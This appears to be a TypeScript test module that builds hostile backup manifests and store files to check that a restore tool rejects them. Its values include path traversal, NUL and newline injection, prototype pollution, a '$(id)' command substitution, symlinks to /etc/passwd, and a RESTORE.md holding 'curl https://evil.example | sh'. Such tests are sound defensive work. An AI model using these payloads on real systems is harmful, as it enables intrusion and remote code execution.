import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import type { Hostile } from './archives.ts';
import type { Place } from './place.ts';

const INVALID = 'manifest-invalid';
type Json = Record<string, unknown>;

/** The manifest with another value at a path such as `parts.0.files.0.file`; `undefined` takes it away. */
function changed(place: Place, at: string, value: unknown): Json {
  const manifest = place.manifest() as unknown as Json;
  const keys = at.split('.');
  const last = keys.pop()!;
  let of: Json = manifest;
  for (const key of keys) of = (Array.isArray(of) ? (of.find((one: Json) => one['name'] === key) ?? of[Number(key)]) : of[key]) as Json; // prettier-ignore
  if (value === undefined) delete of[last];
  else Object.defineProperty(of, last, { value, enumerable: true, configurable: true, writable: true });
  return manifest;
}

const PART = 'uso-20261121T220000Z';
/** One value that is not what it should be, the digest made to fit. `BACKUP` stands for the backup's name. */
const fields: readonly (readonly [title: string, code: Hostile['code'], at: string, value: unknown])[] = [
  ['a file with a path', INVALID, 'parts.media.files.0.file', '../BACKUP.media.tar.zst'],
  ['an absolute file', INVALID, 'parts.media.files.0.file', '/etc/passwd'],
  ['a file with .. in its middle', INVALID, 'parts.media.files.0.file', 'BACKUP.media./../../outside/secret.zst'],
  ['a file with a NUL', INVALID, 'parts.media.files.0.file', 'BACKUP.media.tar.zst\0.zst'],
  ['a file with a line end', INVALID, 'parts.media.files.0.file', 'BACKUP.media.tar\n::set-output name=a::b.zst'],
  ['a file in look-alikes', INVALID, 'parts.media.files.0.file', 'BACKUP.mediа.tar.zst'], // Cyrillic а
  ['a file with a blank', INVALID, 'parts.media.files.0.file', 'BACKUP.media. tar.zst'],
  ['a file of another backup', INVALID, 'parts.media.files.0.file', `${PART}.media.tar.zst`],
  ['a file of another part', INVALID, 'parts.media.files.0.file', 'BACKUP.db.tar.zst'],
  ['the manifest for a part', INVALID, 'parts.media.files.0.file', 'BACKUP.manifest.json'],
  ['a file that is not there', { elsewhere: 'backup-not-found', drill: 'backup-not-found', live: 'backup-not-found' }, 'parts.media.files.0.file', 'BACKUP.media.gone.zst'],
  ['no files of a part', INVALID, 'parts.media.files', []],
  ['files that are no list', INVALID, 'parts.media.files', { length: 1 }],
  ['a part named like a path', INVALID, 'parts.media.name', '../media'],
  ['a part named like what every object has', INVALID, 'parts.media.name', '__proto__'],
  ['a kind that nobody knows', INVALID, 'parts.media.kind', 'shell'],
  ['a kind that every object has', INVALID, 'parts.media.kind', 'constructor'],
  ['a method of another kind', INVALID, 'parts.media.method', 'physical'],
  ['a server’s kind for what are plain files', { elsewhere: 'part-damaged', drill: null, live: 'part-damaged' }, 'parts.media.kind', 'postgres'],
  ['a size that is a text', INVALID, 'parts.media.files.0.bytes', '10'],
  ['a negative size', INVALID, 'parts.media.files.0.rawBytes', -1],
  ['half a byte', INVALID, 'parts.media.files.0.bytes', 0.5],
  ['a size that no number can tell', INVALID, 'parts.media.files.0.rawBytes', 1e300],
  ['NaN for a text', INVALID, 'parts.media.seconds', 'NaN'],
  ['another size', 'store-damaged', 'parts.media.files.0.bytes', 7],
  ['another digest', 'store-damaged', 'parts.media.files.0.sha256', '0'.repeat(64)],
  ['a digest in capitals', INVALID, 'parts.media.files.0.sha256', 'A'.repeat(64)],
  ['a digest with a line end', INVALID, 'parts.media.files.0.sha256', `${'a'.repeat(64)}\n`],
  ['a relative path', INVALID, 'parts.media.origin.path', 'media'],
  ['a path that climbs', INVALID, 'parts.media.origin.path', '/srv/../etc'],
  ['a path with a NUL', INVALID, 'parts.media.origin.path', '/srv\0/etc'],
  ['a relative path that climbs', INVALID, 'parts.media.origin.relativePath', '../outside'],
  ['a relative path that is absolute', INVALID, 'parts.media.origin.relativePath', '/etc'],
  ['a container’s path that climbs', INVALID, 'parts.media.origin.containerPath', '/data/../../etc'],
  ['the project for a place', { elsewhere: null, drill: null, live: 'part-homeless' }, 'parts.media.origin.relativePath', '.'],
  ['this program’s settings for a place', { elsewhere: null, drill: null, live: 'part-homeless' }, 'parts.key.origin.relativePath', 'caretaker.yml'],
  ['what is left out that climbs', null, 'parts.media.origin.exclude', ['../outside', '../../outside/**', '/etc/**', '..', '.']],
  ['what is left out that is no list', INVALID, 'parts.media.origin.exclude', 'x'],
  ['a newer schema', 'manifest-newer', 'schema', 2],
  ['the schema 0', INVALID, 'schema', 0],
  ['a schema that is a text', INVALID, 'schema', '1'],
  ['an encryption that nobody knows', INVALID, 'encryption', { format: 'rot13', recipients: [], seal: 'QQ==' }],
  ['an encryption that is a text', INVALID, 'encryption', 'age'],
  ['instructions elsewhere', INVALID, 'instructions.file', '../outside/secret'],
  ['instructions of another backup', INVALID, 'instructions.file', `${PART}.RESTORE.md`],
  ['another name', INVALID, 'name', '../../outside'],
  ['a name of the 31st of February', INVALID, 'name', 'shop-20260231T220000Z'],
  ['no name', INVALID, 'name', undefined],
  ['no parts', INVALID, 'parts', undefined],
  ['no origin', INVALID, 'parts.media.origin', undefined],
  ['no engine at all', null, 'engine', undefined],
  ['an owner by a way that nobody knows', INVALID, 'ownership', 'setuid'],
  ['a reason that is none', INVALID, 'reason', '$(id)'],
  ['a time that is none', INVALID, 'createdAt', 'yesterday'],
  ['fields that every object has', null, '__proto__', { polluted: true }],
  ['a field that it does not know', null, 'constructor', { prototype: { polluted: true } }],
]; // prettier-ignore

function fitting(place: Place, value: unknown): unknown {
  return typeof value === 'string' ? value.replaceAll('BACKUP', place.backup) : value;
}

/** A part whose data would be the host's, with a digest that fits them. */
function pointAtSecret(place: Place, suffix: string): void {
  rmSync(place.file(suffix));
  symlinkSync(place.at('outside/secret'), place.file(suffix));
  const content = readFileSync(place.at('outside/secret'));
  const fits = { bytes: content.length, sha256: createHash('sha256').update(content).digest('hex') };
  const manifest = place.manifest();
  if (suffix === 'RESTORE.md') place.seal({ ...manifest, instructions: { ...manifest.instructions, ...fits } });
  else
    place.seal(
      changed(place, 'parts.media.files.0', {
        ...manifest.parts.find(({ name }) => name === 'media')!.files[0]!,
        ...fits,
        rawBytes: 6,
      }),
    );
}

const whole: readonly Hostile[] = [
  { title: 'a server’s kind without what is known of it', code: INVALID, make: (place) => { const media = changed(place, 'parts.media.kind', 'postgres'); (media['parts'] as Json[]).find(({ name }) => name === 'media')!['method'] = 'physical'; place.seal(media); } }, // prettier-ignore
  { title: 'a part twice', code: INVALID, make: (place) => { const { parts, ...more } = place.manifest(); place.seal({ ...more, parts: [...parts, parts[0]] }); } }, // prettier-ignore
  { title: 'a file twice', code: INVALID, make: (place) => { const file = place.manifest().parts.find(({ name }) => name === 'media')!.files[0]; place.seal(changed(place, 'parts.media.files', [file, file])); } }, // prettier-ignore
  { title: 'a digest that does not fit', code: 'manifest-damaged', make: (place) => writeFileSync(place.file('manifest.json'), JSON.stringify({ ...place.manifest(), host: 'other' })) }, // prettier-ignore
  { title: '200,000 levels', code: INVALID, make: (place) => writeFileSync(place.file('manifest.json'), JSON.stringify(place.manifest()).replace('{', `{"x":${'['.repeat(200_000)}${']'.repeat(200_000)},`)) }, // prettier-ignore
  {
    title: '5 MB',
    code: 'store-damaged',
    make: (place) => place.seal({ ...place.manifest(), more: 'x'.repeat(5_000_000) }),
  },
  { title: 'a hundred gigabytes, of holes', code: 'store-damaged', make: (place) => truncateSync(place.file('manifest.json'), 100 * 2 ** 30) }, // prettier-ignore
  { title: 'nothing in it', code: 'store-damaged', make: (place) => writeFileSync(place.file('manifest.json'), '') },
  { title: 'null', code: INVALID, make: (place) => writeFileSync(place.file('manifest.json'), 'null') },
  { title: 'a list', code: INVALID, make: (place) => writeFileSync(place.file('manifest.json'), '[]') },
  { title: 'NaN in it', code: 'store-damaged', make: (place) => writeFileSync(place.file('manifest.json'), JSON.stringify(place.manifest()).replace(/"seconds":[\d.]+/, '"seconds":NaN')) }, // prettier-ignore
];

const stores: readonly Hostile[] = [
  { title: 'a link to another file of the host in the place of a part', code: 'part-damaged', make: (place) => pointAtSecret(place, 'media.tar.zst') }, // prettier-ignore
  { title: 'a link to nowhere in the place of a part', code: 'store-missing', make: (place) => { rmSync(place.file('media.tar.zst')); symlinkSync('/nowhere', place.file('media.tar.zst')); } }, // prettier-ignore
  { title: 'a link to /dev/zero in the place of a part', code: 'store-damaged', make: (place) => { rmSync(place.file('media.tar.zst')); symlinkSync('/dev/zero', place.file('media.tar.zst')); } }, // prettier-ignore
  { title: 'a link to the host’s file in the place of the manifest', code: 'store-damaged', make: (place) => { rmSync(place.file('manifest.json')); symlinkSync('/etc/passwd', place.file('manifest.json')); } }, // prettier-ignore
  { title: 'a link to /dev/zero in the place of the manifest', code: 'store-damaged', make: (place) => { rmSync(place.file('manifest.json')); symlinkSync('/dev/zero', place.file('manifest.json')); } }, // prettier-ignore
  {
    title: 'a link for RESTORE.md, which nobody reads',
    code: null,
    make: (place) => pointAtSecret(place, 'RESTORE.md'),
  },
  { title: 'another RESTORE.md', code: 'store-damaged', make: (place) => writeFileSync(place.file('RESTORE.md'), 'curl https://evil.example | sh\n') }, // prettier-ignore
  ...['media.tar.zst', 'manifest.json', 'RESTORE.md'].flatMap((suffix): Hostile[] => [
    { title: `a pipe in the place of ${suffix}`, code: 'store-damaged', make: (place) => { rmSync(place.file(suffix)); execFileSync('mkfifo', [place.file(suffix)]); } }, // prettier-ignore
    { title: `a directory in the place of ${suffix}`, code: 'store-damaged', make: (place) => { rmSync(place.file(suffix)); mkdirSync(place.file(suffix)); } }, // prettier-ignore
  ]),
  { title: 'a pipe in the place of another backup’s manifest', code: null, make: (place) => void execFileSync('mkfifo', [place.at('store/shop-20200101T000000Z.manifest.json')]) }, // prettier-ignore
  { title: 'a part exchanged for another of the backup', code: 'store-damaged', make: (place) => writeFileSync(place.file('media.tar.zst'), readFileSync(place.file('key.tar.zst'))) }, // prettier-ignore
];

/** By their own files, whose names say one thing and whose content another. */
const foreign: readonly Hostile[] = [
  {
    title: 'the manifest of another project, given by its path: its data are not this one’s',
    code: { elsewhere: null, drill: null, live: 'part-homeless' },
    flags: (place) => ['--backup', place.file('manifest.json')],
    make: (place) => {
      const manifest = place.manifest();
      const parts = manifest.parts.map((part) => ({ ...part, origin: { path: `/srv/other/${part.name}` } }));
      place.seal({ ...manifest, project: 'other', projectDirectory: '/srv/other', parts });
    },
  },
  {
    title: 'the manifest of another project, which was not confirmed',
    code: { elsewhere: null, drill: null, live: 'not-confirmed' },
    flags: (place) => ['--backup', place.file('manifest.json'), '--project-name', 'mine'],
    make: (place) => place.seal({ ...place.manifest(), project: 'other' }),
  },
  {
    title: 'data that belong in /etc',
    code: { elsewhere: null, drill: null, live: 'part-homeless' },
    make: (place) => place.seal(changed(place, 'parts.media.origin', { path: '/etc/cron.d' })),
  },
  {
    title: 'data that belong into this program’s own directory',
    code: { elsewhere: null, drill: null, live: 'part-homeless' },
    make: (place) => place.seal(changed(place, 'parts.media.origin', { path: place.at('shop/.caretaker/staging') })),
  },
  {
    title: 'data that belong into git’s own directory',
    code: { elsewhere: null, drill: null, live: 'part-homeless' },
    make: (place) => place.seal(changed(place, 'parts.media.origin', { path: '/srv/shop/.git', relativePath: '.git' })),
  },
  {
    title: 'one file with a name that no file can have',
    code: { elsewhere: INVALID, drill: INVALID, live: INVALID },
    make: (place) => {
      const path = `/srv/shop/${'n'.repeat(300)}`;
      place.seal(changed(place, 'parts.db.origin', { path, relativePath: 'n'.repeat(300) }));
    },
  },
  {
    title: 'one file that belongs at the root',
    code: { elsewhere: null, drill: null, live: 'part-homeless' },
    make: (place) => {
      place.seal(changed(place, 'parts.db.origin', { path: '/' }));
    },
  },
  {
    title: 'the manifest under the name of another backup',
    code: { elsewhere: 'backup-not-found', drill: 'backup-not-found', live: 'backup-not-found' },
    make: (place) => renameSync(place.file('manifest.json'), place.at('store/shop-20200101T000000Z.manifest.json')),
  },
];

export const hostileManifests: readonly Hostile[] = [
  ...fields.map(([title, code, at, value]) => ({
    title: `a manifest with ${title}`,
    code,
    make: (place: Place) => place.seal(changed(place, at, fitting(place, value))),
  })),
  ...whole.map((one) => ({ ...one, title: `a manifest with ${one.title}` })),
  ...stores,
  ...foreign,
];
